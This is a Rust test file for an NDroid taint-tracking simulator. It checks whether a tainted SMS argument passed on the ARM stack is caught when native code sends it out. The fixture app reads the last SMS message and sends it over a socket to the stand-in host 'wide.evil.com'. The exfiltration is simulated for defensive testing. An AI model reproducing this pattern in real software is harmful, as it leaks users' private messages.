//! SourcePolicy stack arguments: "the first four parameters are passed
//! in R0 to R3, and the remaining parameters are pushed onto stack"
//! (§V-B) — `SourcePolicy.stack_args_num`/`stack_args_taints` cover
//! them. The paper's QQPhoneBook method has 11 parameters
//! (`IILLLLLLLLII`), so taint arriving in a stack slot is the norm,
//! not the exception.

use ndroid::apps::AppBuilder;
use ndroid::arm::reg::RegList;
use ndroid::arm::Reg;
use ndroid::core::Mode;
use ndroid::dvm::bytecode::DexInsn;
use ndroid::dvm::{InvokeKind, MethodDef, MethodKind, Taint};
use ndroid::jni::dvm_addr;
use ndroid::libc::libc_addr;

/// Native `void wide(int, int, int, int, int, String secret)` — the
/// tainted String is argument index 5, i.e. the **second stack slot**.
fn wide_args_app() -> ndroid::apps::App {
    let mut b = AppBuilder::new(
        "wide-args",
        "tainted parameter beyond R0-R3 (stack-passed, like QQPhoneBook's 11-arg method)",
    );
    let c = b.class("Lapp/Wide;");
    let dest = b.data_cstr("wide.evil.com");

    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    // The 6th argument (index 5) lives at [sp + 4] *before* our push;
    // after pushing 3 words it is at [sp + 12 + 4].
    b.asm.ldr(Reg::R0, Reg::SP, 16); // the jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));
    let native = b.native_method(c, "wide", "VIIIIIL", true, entry);

    let sms = b
        .program
        .find_method_by_name("Landroid/provider/SmsProvider;", "queryLastMessage")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: sms,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 5 },
                DexInsn::Const { dst: 0, value: 10 },
                DexInsn::Const { dst: 1, value: 11 },
                DexInsn::Const { dst: 2, value: 12 },
                DexInsn::Const { dst: 3, value: 13 },
                DexInsn::Const { dst: 4, value: 14 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![0, 1, 2, 3, 4, 5],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(6),
    );
    b.finish("Lapp/Wide;", "main").unwrap()
}

#[test]
fn stack_passed_tainted_argument_tracked() {
    let sys = wide_args_app().run(Mode::NDroid).unwrap();
    let leaks = sys.leaks();
    assert_eq!(leaks.len(), 1, "taint arrived via a stack slot");
    assert!(leaks[0].taint.contains(Taint::SMS));
    assert_eq!(leaks[0].dest, "wide.evil.com");
    assert!(String::from_utf8_lossy(&leaks[0].data).contains("secret meeting"));
    // The SourcePolicy recorded a stack argument.
    let log = sys.trace.render();
    assert!(log.contains("args[5]"), "six-argument call logged:\n{log}");
}

#[test]
fn taintdroid_misses_even_with_its_policy() {
    // TaintDroid's JNI policy taints the *return value* — this method
    // returns void, and the sink is native, so it sees nothing.
    let sys = wide_args_app().run(Mode::TaintDroid).unwrap();
    assert!(sys.leaks().is_empty());
    assert_eq!(sys.report().network_log.len(), 1);
}
